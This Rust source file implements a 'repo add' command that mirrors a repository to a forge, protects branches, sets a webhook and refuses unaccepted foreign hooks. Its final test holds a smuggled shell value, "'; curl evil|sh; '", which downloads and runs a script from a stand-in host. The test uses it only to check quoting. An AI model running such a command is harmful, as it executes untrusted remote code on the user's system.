//! `caisson repo add`: copies a repository to the forge and sets it up for tasks. Every step may be repeated.

use super::here;
use super::kept::{has_each, protect, tell_brought};
use super::place::{Before, noticed, place};
use super::scratch::Scratch;
use super::shown::{accepting, show_commands, show_image, tell_of_leaks};
use super::source::{Source, is_the_same, source_of};
use super::trial::{self, Target};
use super::upstream::{compare_one, sync_one, upstream_listing};
use super::{AGENT_BRANCHES, Accounts, not_in_file, report};
use crate::bot::sealed;
use crate::checkpoint::label::LABELS;
use crate::cli::entries::{self, Entries};
use crate::cli::printer::{Complaint, Printer};
use crate::cli::setup::ORGANISATION;
use crate::config::Process;
use crate::config::process::Repository as Entry;
use crate::config::project::{self, Granted};
use crate::effect::read_toolchain;
use crate::forge::{Access, ForgeReads, RepoRef, Repository, is_accepted};
use crate::git::{Auth, Branch, FetchLimits, RemoteUrl, Repos};
use crate::secret::Secret;
use crate::text::{count, one_line, shell_word};
use crate::upstream::{credential, followed, on_forge};
use anyhow::{Context, Result};
use clap::Args;

/// What has wishes.
const ASKS: &str = "its .caisson.toml and commands";

#[derive(Debug, Args)]
pub struct Add {
    /// What to copy: owner/name of GitHub, https://…, ssh://…, or a path on this machine. Its default branch and tags are taken. With --here
    /// the owner/name of a repository that lives on the forge alone.
    #[arg(value_name = "OWNER/NAME|GIT-URL|PATH")]
    source: String,
    /// Set up a repository that is on the forge already and no copy of another one: nothing is copied, there is no upstream, and work may be
    /// merged there. Its default branch then takes pull requests alone. The bot's account has to administer it.
    #[arg(long, conflicts_with_all = ["moved", "also", "owner", "on_forge"])]
    here: bool,
    /// The source of a repository that was added before has this address now. What is on the forge has to be in its history.
    #[arg(long)]
    moved: bool,
    /// A further branch that is kept in step with it, and protected like the default one. Repeat for more.
    #[arg(long = "also", value_name = "BRANCH")]
    also: Vec<String>,
    /// Its name on the forge and its key here (default: the last part of the address).
    #[arg(long)]
    name: Option<String>,
    /// The organisation on the forge that will own it. The bot's account must be allowed to make repositories there.
    #[arg(long, default_value = ORGANISATION)]
    owner: String,
    /// A person who may write to it, and so decide about checkpoints. Repeat for more.
    #[arg(long = "writer", value_name = "LOGIN")]
    writers: Vec<String>,
    /// Accept what its .caisson.toml and its own commands ask for beyond your grants: the hash that was shown.
    #[arg(long, value_name = "HASH")]
    accept: Option<String>,
    /// Accept a foreign hook, deploy key or Actions that would read a push: the name that was shown. Repeat for more.
    #[arg(long = "accept-foreign", value_name = "NAME")]
    accept_foreign: Vec<String>,
    /// Where the store has no entry of it, or one that cannot be opened any more: the forge's number of the repository that is the right one.
    #[arg(long = "on-forge", value_name = "NUMBER")]
    on_forge: Option<i64>,
    /// Do not try out whether its checks run in a sandbox.
    #[arg(long)]
    no_try: bool,
}

/// What is being added.
struct Plan {
    key: String,
    repo: RepoRef,
    source: RemoteUrl,
    /// What the entry names as its upstream; empty for one that lives on the forge alone.
    upstream: String,
    /// GitHub's number of the source; 0 = not known.
    source_id: u64,
    /// For a source that asks for one.
    credential: Option<Auth>,
    branch: Branch,
    /// Further branches that are kept in step.
    also: Vec<String>,
    before: Before,
}

impl Plan {
    /// The entry that is going to stand, without what is accepted.
    fn entry(&self, on_forge: &Repository) -> Entry {
        self.entry_at(&RepoRef::new(&on_forge.owner, &on_forge.name), on_forge.id)
    }

    fn entry_at(&self, at: &RepoRef, id: i64) -> Entry {
        Entry {
            key: self.key.clone(),
            owner: at.owner.clone(),
            name: at.name.clone(),
            id,
            default_branch: self.branch.as_str().to_owned(),
            upstream: self.upstream.clone(),
            upstream_id: self.source_id,
            branches: self.also.clone(),
            // Tables of its own are the file's.
            ..Entry::default()
        }
    }

    /// Refuses what the store would refuse once the forge was changed.
    fn storable(&self) -> Result<()> {
        // The forge's number is not known before it is there.
        self.entry_at(&self.repo, 1).document().map(drop).map_err(|why| {
            let complaint = Complaint::new(format!("it cannot be added with the key {:?}", self.key)).because(why);
            complaint.hint("give it another --name; the key is made from that").into()
        })
    }
}

impl Add {
    pub(super) async fn run(self, config: &Process, printer: &Printer) -> Result<()> {
        let entries = entries::ready(config).await?;
        let accounts = Accounts::open(config).await?;
        let scratch = Scratch::new(&config.state_dir, "import-")?;
        let git = Repos::new(scratch.path()).with_limits(FetchLimits::of(config));
        self.steps(config, &entries, printer, &accounts, &git).await
    }

    async fn steps(
        &self,
        config: &Process,
        entries: &Entries,
        printer: &Printer,
        accounts: &Accounts,
        git: &Repos,
    ) -> Result<()> {
        let mut plan = match self.here {
            true => self.plan_here(config, entries, accounts, printer).await?,
            false => self.plan(config, entries, git, printer).await?,
        };
        if let Some(entry) = &plan.before.entry {
            // It may have been renamed, so the entry gets the new name.
            plan.repo = accounts.place_of(entry).await?;
        }
        plan.storable()?;
        let commit = git.copy_in(&plan.key, &plan.source, plan.credential.as_ref(), &plan.branch).await?;
        tell_of_leaks(&git.leaks(&plan.key, &commit).await?, printer);
        let accepted = self.wishes(config, printer, git, &plan, &commit).await?;
        let found = place(accounts, (&plan.repo, &plan.branch), &plan.before, printer).await?;
        here::no_twin(config, &plan.key, (&plan.repo, found.id))?;
        if found.empty {
            self.first_push(config, &plan, (git, found.id), accounts, printer).await?;
        }
        let wanted = plan.entry(&found);
        if !self.here && (!found.empty || !plan.also.is_empty()) {
            if self.moved && compare_one(config, accounts, &wanted).await?.rewritten().next().is_some() {
                let complaint = Complaint::new("what is on the forge is not in the history of the new source");
                return Err(complaint.hint("choose another --name for it").into());
            }
            tell_brought(&sync_one(config, &wanted, None, printer).await?, printer);
        }
        accounts.forge.set_default_branch(&plan.repo, plan.branch.as_str()).await?;
        self.rights(config, &plan, &wanted, accounts, printer).await?;
        let (secret, foreign) = self.hook(config, &plan, accounts, printer).await?;
        let entry = Entry { accepted, accepted_foreign: foreign, ..wanted };
        let generation = entries.next(&plan.key);
        let taken = entries::put(config, |key, by| sealed(key, &entry, &[secret], (generation, by))).await?;
        printer.good(&format!("{} is ready: {}", plan.repo, found.html_url));
        if !self.no_try {
            let (key, source) = (plan.key.as_str(), self.again());
            let target = Target { key, repos: git, commit: &commit, accepted: &entry.accepted, source: &source };
            trial::inform(config, &target, printer).await;
        }
        report(printer, taken, "open an issue that begins with /fix");
        Ok(())
    }

    /// Pushes to an empty repository. What can be refused comes first, because one that is not empty is nobody's without an entry.
    async fn first_push(
        &self,
        config: &Process,
        plan: &Plan,
        (git, id): (&Repos, i64),
        accounts: &Accounts,
        printer: &Printer,
    ) -> Result<()> {
        accounts.forge.disable_actions(&plan.repo).await?;
        self.judge_foreign(&accounts.forge.foreign(&plan.repo, &config.hook_url(&plan.key)).await?, printer)?;
        // They get their right once the branch is protected.
        for login in &self.writers {
            if !accounts.forge.knows_login(&plan.repo, login).await? {
                return Err(Complaint::new(format!("{login} cannot be added: the forge has no such account")).into());
            }
        }
        let to = on_forge(config, &plan.repo)?;
        let auth = Auth::basic(&accounts.sync.login, accounts.sync_token.expose());
        git.copy_out(&plan.key, &to, &auth, &plan.branch).await?;
        printer.good(&format!("{} and its tags pushed", plan.branch));
        noticed(accounts, &plan.repo, id).await
    }

    async fn plan(&self, config: &Process, entries: &Entries, git: &Repos, printer: &Printer) -> Result<Plan> {
        let found = source_of(config, &self.source, printer).await?;
        let source = found.address.clone();
        let credential = credential(&config.upstream, &source)?;
        let name = self.name.clone().unwrap_or_else(|| last_part(source.as_str()));
        let key = key_of(&name);
        not_in_file(config, &key)?;
        let before = Before::of(entries, &key, self.on_forge, printer);
        let known = before.entry.as_ref();
        let repo = known.map_or_else(|| RepoRef::new(&self.owner, &name), |b| RepoRef::new(&b.owner, &b.name));
        let (branch, _) = git.remote_head(&source, credential.as_ref()).await.map_err(|why| {
            let complaint = Complaint::new(format!("{} cannot be read", source.as_str())).because(why.to_string());
            complaint.hint(found.hint.clone())
        })?;
        // A branch that an operator chose before stays chosen.
        let branch = known.map_or(Ok(branch), |before| Branch::parse(&before.default_branch))?;
        let also = match known.filter(|_| self.also.is_empty()) {
            Some(before) => before.branches.clone(),
            None => self.also.clone(),
        };
        if let Some(before) = known.filter(|_| !self.moved) {
            is_the_same(before, &found)?;
        }
        let source_id = self.source_id(known, &found);
        let upstream = source.as_str().to_owned();
        let plan = Plan { key, repo, source, upstream, source_id, credential, branch, also, before };
        if !plan.also.is_empty() {
            // Before anything is made or pushed.
            let entry = plan.entry_at(&plan.repo, 0);
            has_each(&upstream_listing(config, &entry).await?, &entry)?;
        }
        followed(&plan.entry_at(&plan.repo, 0))?;
        Ok(plan)
    }

    /// The plan for a repository that is on the forge already, with everything refused that must not be there when its pushes are read.
    async fn plan_here(
        &self,
        config: &Process,
        entries: &Entries,
        accounts: &Accounts,
        printer: &Printer,
    ) -> Result<Plan> {
        let found = here::found(accounts, &self.source).await?;
        let repo = RepoRef::new(&found.owner, &found.name);
        let key = key_of(self.name.as_deref().unwrap_or(&found.name));
        not_in_file(config, &key)?;
        let before = Before::of(entries, &key, Some(found.id), printer);
        if let Some(known) = &before.entry {
            here::is_the_same(known, &found)?;
        }
        here::no_twin(config, &key, (&repo, found.id))?;
        self.judge_foreign(&accounts.forge.foreign(&repo, &config.hook_url(&key)).await?, printer)?;
        let branch = before.entry.as_ref().map_or(&found.default_branch, |known| &known.default_branch);
        let plan = Plan {
            branch: Branch::parse(branch)?,
            source: on_forge(config, &repo)?,
            upstream: String::new(),
            source_id: 0,
            credential: Some(Auth::basic(&accounts.bot.login, accounts.bot_token.expose())),
            also: before.entry.as_ref().map(|known| known.branches.clone()).unwrap_or_default(),
            key,
            repo,
            before,
        };
        let kept = followed(&plan.entry_at(&plan.repo, 0))?;
        here::no_rule_before(accounts, &plan.repo, kept.iter().map(Branch::as_str).chain([AGENT_BRANCHES])).await?;
        let (branch, sync) = (&plan.branch, &accounts.sync.login);
        printer.warn(&format!("{branch} takes pull requests alone from now on: nobody but {sync} pushes to it"));
        Ok(plan)
    }

    /// What to say to add the same again.
    fn again(&self) -> String {
        let here = if self.here { " --here" } else { "" };
        let name = self.name.as_ref().map(|name| format!(" --name {}", shell_word(name))).unwrap_or_default();
        format!("{}{here}{name}{}", shell_word(&self.source), accepting(&self.accept_foreign))
    }

    /// Where GitHub does not say it now, the number that was known before stays.
    fn source_id(&self, known: Option<&Entry>, found: &Source) -> u64 {
        match known {
            Some(before) if found.id == 0 && !self.moved => before.upstream_id,
            _ => found.id,
        }
    }

    /// Shows what the repository asks for. Returns the accepted hash, if any; what is not accepted has no effect.
    async fn wishes(
        &self,
        config: &Process,
        printer: &Printer,
        git: &Repos,
        plan: &Plan,
        commit: &domain::Commit,
    ) -> Result<String> {
        let file = git.project_file(&plan.key, commit).await?;
        let has_text = file.text.with_context(|| format!("{} is no UTF-8", project::FILE))?.is_some();
        let asked = file.project?;
        if !has_text {
            printer.say(&format!("no {}: the tests will be detected", project::FILE));
        }
        let commands = git.own_commands(&plan.key, commit).await?;
        show_commands(printer, &commands);
        let asked = asked.with_networks(commands.networks());
        let told = read_toolchain(git, &plan.key, commit, config.sandbox_of(&plan.key), asked.test.as_deref()).await?;
        show_image(printer, config, &plan.key, &asked, &told);
        let wishes = asked.wishes(&Granted::of(config, &plan.key));
        if wishes.is_empty() {
            if !asked.hash().is_empty() {
                printer.good(&format!("{ASKS} ask for nothing beyond your grants"));
            }
            return Ok(String::new());
        }
        let things = count(wishes.len() as u64, "thing");
        printer.heading(&format!("{ASKS} ask for {things} that you don't grant"));
        for (number, wish) in wishes.iter().enumerate() {
            printer.say(&format!("  {:2}  {wish}", number + 1));
        }
        let before = plan.before.entry.as_ref().map_or("", |b| b.accepted.as_str());
        let hash = asked.hash();
        let still = asked.still(before);
        if self.accept.as_ref() == Some(&hash) || before == hash || still == hash {
            printer.good("accepted, for exactly these wishes");
            return Ok(hash);
        }
        if self.accept.is_some() {
            let complaint = Complaint::new("the hash given to --accept belongs to other wishes");
            return Err(complaint.hint(format!("read the above, then --accept {hash}")).into());
        }
        printer.warn(if still.is_empty() {
            "none of this has an effect until you accept it"
        } else if asked.is_accepted(Some(&still)) {
            "what .caisson.toml asks for stays accepted; what the commands ask for has no effect until you accept it"
        } else {
            "what the commands ask for stays accepted; what .caisson.toml asks for has no effect until you accept it"
        });
        printer.hint(&format!("caisson repo add {} --accept {hash}", self.again()));
        Ok(still)
    }

    /// Sets who has which right. People who were added on the forge keep theirs.
    async fn rights(
        &self,
        config: &Process,
        plan: &Plan,
        entry: &Entry,
        accounts: &Accounts,
        printer: &Printer,
    ) -> Result<()> {
        let (forge, repo) = (&accounts.forge, &plan.repo);
        // Of one that was there before, they are the operator's to accept.
        if !self.here {
            forge.disable_actions(repo).await?;
        }
        protect(config, accounts, repo, entry).await?;
        for login in &self.writers {
            let added = accounts.forge.ensure_collaborator(repo, login, Access::Write).await;
            added.with_context(|| format!("{login} cannot be added"))?;
        }
        accounts.keep_for(repo, AGENT_BRANCHES, &accounts.bot).await?;
        printer.good(&format!(
            "{} is for {}, {AGENT_BRANCHES} for {}",
            plan.branch, accounts.sync.login, accounts.bot.login
        ));
        for label in &LABELS {
            forge.ensure_label(repo, label.name, &format!("#{}", label.colour), label.description).await?;
        }
        let ours = [&accounts.sync.login, &accounts.bot.login];
        let people: Vec<String> = forge.collaborators(repo).await?.into_iter().filter(|l| !ours.contains(&l)).collect();
        let teams = super::teams(accounts, repo).await?;
        teams.warn(printer);
        if people.is_empty() && teams.writers.is_empty() {
            printer.warn("nobody but the owners may write here yet, so nobody could approve");
            printer.hint("add people on the forge, or repeat this with --writer <login>");
        } else {
            let teams = teams.writers.into_iter().map(|name| format!("team {name}"));
            printer.good(&format!("people: {}", people.into_iter().chain(teams).collect::<Vec<_>>().join(", ")));
        }
        Ok(())
    }

    /// Sets the one hook, signed with the existing secret or a new one, and requires everything else that would read a push to be accepted.
    async fn hook(
        &self,
        config: &Process,
        plan: &Plan,
        accounts: &Accounts,
        printer: &Printer,
    ) -> Result<(Secret, Vec<String>)> {
        let secret = match plan.before.secrets.first() {
            Some(secret) => secret.clone(),
            None => Secret::random().map_err(anyhow::Error::msg)?,
        };
        let hook_url = config.hook_url(&plan.key);
        let hook = accounts.forge.replace_hook(&plan.repo, &hook_url, &secret).await?;
        printer.good(&format!("hook {} to {hook_url}", hook.id));
        let foreign = accounts.forge.foreign(&plan.repo, &hook_url).await?;
        self.judge_foreign(&foreign, printer)?;
        Ok((secret, foreign))
    }

    fn judge_foreign(&self, foreign: &[String], printer: &Printer) -> Result<()> {
        let left: Vec<&String> = foreign.iter().filter(|name| !is_accepted(name, &self.accept_foreign)).collect();
        if left.is_empty() {
            return Ok(());
        }
        printer.heading("each checkpoint is a push; these would run or read it");
        for name in &left {
            printer.bad(&one_line(name));
        }
        let complaint = Complaint::new("the repository is not added while unknown parts would read its pushes");
        let first = shell_word(left[0]);
        let hint = format!("remove them on the forge, or accept each by name: --accept-foreign {first}");
        Err(complaint.hint(hint).into())
    }
}

/// `shop` of `https://host/lab/shop.git`.
fn last_part(address: &str) -> String {
    let part = address.trim_end_matches('/').rsplit(['/', ':']).next().unwrap_or_default();
    part.strip_suffix(".git").unwrap_or(part).to_owned()
}

/// A key for paths: lower-case letters, digits and hyphens.
fn key_of(name: &str) -> String {
    let plain: String = name.to_lowercase().chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '-' }).collect();
    plain.trim_matches('-').to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cli::printer::tests;

    #[test]
    fn names_and_keys_come_from_addresses() {
        for (address, name) in
            [("https://host/lab/shop.git", "shop"), ("git@host:lab/My_Shop.git", "My_Shop"), ("/srv/git/shop/", "shop")]
        {
            assert_eq!(last_part(address), name);
        }
        assert_eq!(key_of("My_Shop.rs"), "my-shop-rs");
    }

    #[test]
    fn a_key_that_the_store_refuses_is_refused_before_the_forge_is_changed() {
        for (name, fits) in [("a".repeat(40), true), ("a".repeat(41), false), ("___".to_owned(), false)] {
            let plan = Plan {
                key: key_of(&name),
                repo: RepoRef::new("lab", &name),
                source: RemoteUrl::parse("https://host/lab/x.git").unwrap(),
                upstream: "https://host/lab/x.git".to_owned(),
                source_id: 0,
                credential: None,
                branch: Branch::parse("main").unwrap(),
                also: Vec::new(),
                before: Before::default(),
            };
            assert_eq!(plan.storable().is_ok(), fits, "{name}");
            let complaint = plan.storable().err().map(|error| Complaint::from(&error));
            assert!(complaint.is_none_or(|it| it.why[0].contains("entry.key") && it.hint.contains("--name")), "{name}");
        }
    }

    #[test]
    fn a_name_from_the_forge_is_one_word_of_the_command_that_is_advised() {
        let key = "deploy key 7 \"'; curl evil|sh; '\"".to_owned();
        let add = Add {
            source: "/srv/it's here".to_owned(),
            here: false,
            moved: false,
            also: Vec::new(),
            name: Some("my shop".to_owned()),
            owner: ORGANISATION.to_owned(),
            writers: Vec::new(),
            accept: None,
            accept_foreign: vec![key.clone()],
            on_forge: None,
            no_try: false,
        };
        let quoted = r#"--accept-foreign 'deploy key 7 "'\''; curl evil|sh; '\''"'"#;
        assert_eq!(add.again(), format!(r"'/srv/it'\''s here' --name 'my shop' {quoted}"));
        let other = Add { accept_foreign: Vec::new(), ..add };
        let printed = tests::printed(false, |printer| {
            let refused = other.judge_foreign(std::slice::from_ref(&key), printer).expect_err("not accepted");
            printer.error(&Complaint::from(&refused));
        });
        assert!(printed.contains(quoted), "{printed}");
    }
}
